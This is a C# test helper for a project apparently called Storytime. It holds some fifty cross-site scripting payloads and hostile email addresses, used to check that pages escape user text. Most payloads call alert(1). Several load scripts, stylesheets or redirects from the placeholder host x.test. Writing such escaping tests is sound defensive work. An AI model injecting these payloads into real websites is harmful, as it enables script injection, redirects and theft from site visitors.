namespace Storytime.Browser.Tests.Testing;

/// <summary>Texts that are programs where a page forgets to make text of them. Each calls <c>alert</c>, or fetches something from x.test.</summary>
internal static class Hostile
{
    /// <summary>Begins every hostile text, so that pages find them; another word each time, so that they are those of this run.</summary>
    public static string Word { get; } = "Zyx" + string.Concat(Random.Shared.GetItems("abcdefghijklmnopqrstuvwxyz".AsSpan(), 6));

    public static IReadOnlyList<string> Payloads { get; } =
    [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//x.test/a.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "'\"><img src=x onerror=alert(1)//",
        "<img src=`x`onerror=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<link rel=stylesheet href=//x.test/a.css>",
        "<meta http-equiv=refresh content=\"0;url=//x.test\">",
        "<base href=//x.test/>",
        "<style>@import'//x.test/a.css';</style>",
        "javascript:alert(1)",
        "jAvAsCrIpT&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)} @(alert(1)) #{alert(1)}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\u202E\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    ];

    /// <summary>Addresses to which mail could be sent, and which end an attribute or open a template where they are not text.</summary>
    public static IReadOnlyList<string> Emails { get; } =
    [
        "zyxwright'onfocus='alert`1`'autofocus='@x.test", "zyxwright{{constructor.constructor`alert`}}@x.test", "zyxwright${alert`1`}@x.test", "zyxwright&colon;@x.test",
        "\"zyxwright<img/src/onerror=alert(1)>\"@x.test", "\"zyxwright'><svg/onload=alert(1)>\"@x.test",
    ];

    /// <summary>All of them, as many as fit into each of a few texts of this length.</summary>
    public static IReadOnlyList<string> Packed(int length)
    {
        List<string> texts = [];
        var text = Word;
        foreach (var payload in Payloads)
        {
            if (text.Length + 1 + payload.Length > length)
            {
                texts.Add(text);
                text = Word;
            }
            text += " " + payload;
        }
        return [.. texts, text];
    }
}
